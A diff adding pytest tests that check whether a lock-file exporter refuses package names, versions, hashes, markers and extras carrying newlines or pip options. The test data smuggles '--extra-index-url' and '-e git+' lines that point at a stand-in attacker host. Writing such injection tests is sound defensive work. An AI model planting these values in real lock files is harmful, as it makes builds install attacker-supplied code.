@@ -202,6 +202,69 @@ def test_uv_lock_refuses_a_git_dependency():
         pf.export_uv_lock(lock)
 
 
+# --- a lock file's fields cannot add lines or options to the exported list -------------------
+# pip reads the exported list line by line and takes a word starting with "-" as an option: a
+# newline in any field would add e.g. --extra-index-url or -e git+... to what the build installs.
+
+INJECTED = "\n--extra-index-url https://evil.example.invalid/simple\n-e git+https://evil.example.invalid/x#egg=x"
+
+
+@pytest.mark.parametrize("field, value, message", [
+    ("name", "flask" + INJECTED, r"names a package 'flask\\n--extra-index-url .*not a package name"),
+    ("name", "flask --config-settings=x", r"names a package 'flask --config-settings=x'"),
+    ("version", "3.0.3" + INJECTED, r"pins flask to '3.0.3\\n--extra.*not a version"),
+    ("version", "3.0.3 --hash=sha256:" + "c" * 64, r"pins flask to .*not a version"),
+    ("hashes", [H1 + INJECTED], r"gives flask 3.0.3 the hash .*not sha256:<64"),
+    ("hashes", ["md5:" + "a" * 32], r"gives flask 3.0.3 the hash 'md5:a+', which is not sha256"),
+    ("markers", "python_version >= '3.8'" + INJECTED, r"gives flask 3.0.3 the marker .*no control character"),
+    ("markers", "python_version >= '3.8' --global-option=x", r"gives flask 3.0.3 the marker"),
+    ("markers", "python_version >= '3.8' \\", r"gives flask 3.0.3 the marker"),
+    ("markers", "python_version >= '3.8' # c", r"gives flask 3.0.3 the marker"),
+    ("markers", "python_version >= '3.8'\r--index-url x", r"gives flask 3.0.3 the marker"),
+    ("extras", ["async" + INJECTED], r"asks for flask 3.0.3 with the extra .*not an extra name"),
+])
+def test_a_pipfile_lock_field_that_would_add_a_line_or_an_option_is_refused_naming_the_package(field, value, message):
+    entry = {"version": "==3.0.3", "hashes": [H1], "markers": "python_version >= '3.8'", "extras": ["async"]}
+    name = "flask"
+    if field == "name":
+        name = value
+    elif field == "version":
+        entry["version"] = "==" + value
+    else:
+        entry[field] = value
+    with pytest.raises(pf.FormatError, match=message):
+        pf.export_pipfile_lock(json.dumps({"default": {name: entry}}).encode())
+
+
+def test_the_same_fields_unchanged_export_one_pin_with_its_hashes():
+    entry = {"version": "==3.0.3", "hashes": [H1], "markers": "python_version >= '3.8'", "extras": ["async"]}
+    assert pf.export_pipfile_lock(json.dumps({"default": {"flask": entry}}).encode()) == [
+        f"flask[async]==3.0.3 ; python_version >= '3.8' \\\n    --hash={H1}"]
+
+
+@pytest.mark.parametrize("version", ["1.0", "2!1.0.post1", "1.0rc1", "1.0.dev3", "1.0+local.7", "0.4.6"])
+def test_released_versions_pass(version):
+    assert pf._line("pkg", version, [H1]).startswith(f"pkg=={version} ")
+
+
+def test_a_poetry_lock_with_a_newline_in_a_marker_is_refused():
+    lock = f"""
+[[package]]
+name = "flask"
+version = "3.0.3"
+markers = "python_version >= '3.8'\\n--extra-index-url https://evil.example.invalid/simple"
+files = [{{file = "flask.whl", hash = "{H1}"}}]
+""".encode()
+    with pytest.raises(pf.FormatError, match=r"gives flask 3.0.3 the marker"):
+        pf.export_poetry_lock(lock)
+
+
+def test_a_uv_lock_with_a_newline_in_a_version_is_refused():
+    lock = uv_lock().replace(b'version = "8.1.7"', b'version = "8.1.7\\n-e git+https://evil.example.invalid/x"')
+    with pytest.raises(pf.FormatError, match=r"pins click to '8.1.7\\n-e git"):
+        pf.export_uv_lock(lock)
+
+
 # --- the interpreter ---------------------------------------------------------------------------
 
 @pytest.mark.parametrize("files, spec, source", [
